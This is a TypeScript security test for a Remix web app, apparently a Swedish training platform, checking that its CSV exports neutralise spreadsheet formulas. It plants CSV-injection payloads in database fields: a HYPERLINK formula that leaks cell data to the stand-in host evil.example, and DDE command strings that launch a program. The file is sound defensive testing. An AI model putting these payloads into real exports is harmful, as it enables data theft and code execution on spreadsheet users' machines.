/**
 * CSV exports never hand Excel a formula. Every route that answers CSV (found
 * by its file name `[.csv]` or a text/csv Content-Type in its source) needs an
 * entry in EXPORTS; data that starts with = + - @, a tab or a carriage return
 * is planted where the export reads it, and every cell of the result is checked.
 */
import fs from "node:fs";
import path from "node:path";
import type { LoaderFunctionArgs } from "@remix-run/node";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "~/db.server";
import { ensureDistrictBranches } from "~/modules/branches/branches.server";
import { ensureGoals } from "~/modules/goals/seed-goals.server";
import { csvCell, parseCsv } from "~/utils/csv";
import { createPerson, getRequest, settle, signedIn } from "./helpers";
import { routeFiles } from "./remix-app";

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Klicka")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"];
const context = { clientAddress: "203.0.113.88" };

interface Export {
  url: string;
  /** The route's params, for an export of one cohort or branch. */
  params?: Record<string, string>;
  loader: (args: LoaderFunctionArgs) => Promise<unknown>;
  /** Puts FORMULAS where this export reads them; returns the texts that must appear (neutralised). */
  plant: () => Promise<string[]>;
}

let admin: Awaited<ReturnType<typeof signedIn>>;

const EXPORTS: Record<string, () => Promise<Export>> = {
  "admin.goals.export[.csv].ts": async () => ({
    url: "/admin/goals/export.csv?period=2026",
    loader: (await import("~/routes/admin.goals.export[.csv]")).loader,
    plant: async () => {
      // Indicator names and definitions (admins edit them), branch names (an old import or a bug could
      // store anything), and a person named like a formula in a counted position.
      const indicators = await db.indicator.findMany({ orderBy: { key: "asc" }, take: 4 });
      await db.indicator.update({ where: { id: indicators[0]!.id }, data: { name: FORMULAS[0]!, definition: FORMULAS[1]! } });
      await db.indicator.update({ where: { id: indicators[1]!.id }, data: { name: FORMULAS[2]! } });
      await db.indicator.update({ where: { id: indicators[2]!.id }, data: { name: FORMULAS[3]!, definition: FORMULAS[4]! } });
      await db.branch.update({ where: { name: "Pajala" }, data: { name: FORMULAS[5]! } });
      const person = await createPerson({ branch: "Kiruna", position: "kommunalrad" });
      await db.person.update({ where: { id: person.id }, data: { name: FORMULAS[0]! } });
      return FORMULAS;
    },
  }),
  "cohorts.$cohortId.export[.csv].ts": async () => {
    const cohortId = await formulaCohort();
    return {
      url: `/cohorts/${cohortId}/export.csv`,
      params: { cohortId },
      loader: (await import("~/routes/cohorts.$cohortId.export[.csv]")).loader,
      // Program, course, module and lesson titles (content files), a participant's name, and a branch name.
      plant: async () => {
        await db.branch.update({ where: { name: "Haparanda" }, data: { name: "@Haparanda" } });
        return [...FORMULAS.slice(0, 5), "@Haparanda"];
      },
    };
  },
  "admin.branches.$branchId.export[.csv].ts": async () => {
    await formulaCohort();
    const branch = await db.branch.findUniqueOrThrow({ where: { name: "Arjeplog" } });
    return {
      url: `/admin/branches/${branch.id}/export.csv`,
      params: { branchId: branch.id },
      loader: (await import("~/routes/admin.branches.$branchId.export[.csv]")).loader,
      // The branch's own name, a person's, and the titles of the programs and courses every person has a row for.
      plant: async () => {
        await db.branch.update({ where: { id: branch.id }, data: { name: FORMULAS[3]! } });
        const person = await createPerson({ branch: FORMULAS[3]! });
        await db.person.update({ where: { id: person.id }, data: { name: FORMULAS[0]! } });
        return [FORMULAS[0]!, FORMULAS[1]!, FORMULAS[2]!, FORMULAS[3]!];
      },
    };
  },
  "admin.audit[.csv].ts": async () => ({
    url: "/admin/audit.csv",
    loader: (await import("~/routes/admin.audit[.csv]")).loader,
    plant: async () => {
      // Whoever acted (a name from an import), and the detail an action stored (typed by an admin). recordAudit
      // takes registered actions only, but a row from before a rename shows its key as stored: plant one directly.
      const actor = await createPerson();
      await db.person.update({ where: { id: actor.id }, data: { name: FORMULAS[0]! } });
      await db.auditEvent.create({
        data: { actorId: actor.id, action: FORMULAS[3]!, subjectType: "person", subjectId: actor.id, detail: JSON.stringify({ note: FORMULAS[1]! }) },
      });
      return [FORMULAS[0]!, FORMULAS[3]!];
    },
  }),
};

/**
 * A program whose course, module and lesson are named like formulas, and a cohort of it (named like one too) with
 * a participant named like one: once, for the exports that read them.
 */
let formulaCohortId: string | undefined;
async function formulaCohort() {
  if (formulaCohortId) return formulaCohortId;
  const program = await db.program.create({ data: { slug: "formelprogram", title: FORMULAS[1]!, descriptionHtml: "", order: 9, requiredSessions: 1 } });
  const course = await db.course.create({ data: { slug: "formelkurs", programId: program.id, title: FORMULAS[2]!, summaryHtml: "", order: 1 } });
  const module = await db.module.create({ data: { courseId: course.id, slug: "m", title: FORMULAS[3]!, order: 1 } });
  await db.lesson.create({
    data: { slug: "formellektion", moduleId: module.id, title: FORMULAS[4]!, type: "text", order: 1, bodyHtml: "", contentHash: "x", sourceFile: "x.md" },
  });
  const day = new Date("2027-02-01T12:00:00Z");
  const cohort = await db.cohort.create({
    data: { programId: program.id, name: FORMULAS[0]!, startsOn: day, endsOn: day, enrolmentOpensAt: day, enrolmentClosesAt: day, capacity: 5, mode: "open" },
  });
  const person = await createPerson({ branch: "Haparanda" });
  await db.person.update({ where: { id: person.id }, data: { name: FORMULAS[0]! } });
  await db.enrolment.create({ data: { cohortId: cohort.id, personId: person.id, status: "enrolled" } });
  formulaCohortId = cohort.id;
  return cohort.id;
}

/** Route files that answer CSV: named `…[.csv]`, or setting a text/csv Content-Type. */
function csvRoutes() {
  const source = (file: string) => {
    const full = path.resolve("app/routes", file);
    if (!fs.statSync(full).isDirectory()) return fs.readFileSync(full, "utf8");
    return fs
      .readdirSync(full)
      .filter((f) => /\.tsx?$/.test(f))
      .map((f) => fs.readFileSync(path.join(full, f), "utf8"))
      .join("\n");
  };
  return routeFiles().filter((file) => file.includes("[.csv]") || /["']?Content-Type["']?\s*[:,]\s*["'`]text\/csv/i.test(source(file)));
}

beforeAll(async () => {
  await ensureDistrictBranches();
  await ensureGoals();
  admin = await signedIn({ roles: ["admin"] });
});

const DANGEROUS_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(?:[.,]\d+)?$/;

describe("attack: CSV exports neutralise formulas", () => {
  it("every CSV route has an entry here", () => {
    const routes = csvRoutes();
    expect(routes.length).toBeGreaterThan(0);
    expect(
      routes.filter((r) => !(r in EXPORTS)),
      "CSV routes without an entry in EXPORTS",
    ).toEqual([]);
  });

  it.each(Object.keys(EXPORTS))("%s: no cell starts a formula, and the planted texts are there, neutralised", async (file) => {
    const e = await EXPORTS[file]!();
    const planted = await e.plant();
    const res = await settle(() => e.loader({ request: getRequest(e.url, admin.cookie), context, params: e.params ?? {} }));
    expect(res.status).toBe(200);
    expect(res.headers.get("Content-Type")).toMatch(/^text\/csv/);
    const rows = parseCsv(await res.text());
    const cells = rows.flat();
    const live = cells.filter((c) => DANGEROUS_START.test(c) && !NUMBER.test(c));
    expect(live).toEqual([]);
    for (const text of planted) expect(cells, JSON.stringify(text)).toContain(`'${text}`);
  });

  it("the cell writer quotes separators and line breaks, and leaves real numbers (also negative ones) alone", () => {
    expect(csvCell('=HYPERLINK("http://evil")')).toBe(`"'=HYPERLINK(""http://evil"")"`);
    expect(csvCell("Luleå; Piteå")).toBe('"Luleå; Piteå"');
    expect(csvCell("rad 1\nrad 2")).toBe('"rad 1\nrad 2"');
    expect(csvCell(-2.5)).toBe("-2,5");
    expect(csvCell("-2,5 ändrat")).toBe("'-2,5 ändrat");
    expect(csvCell(null)).toBe("");
  });
});
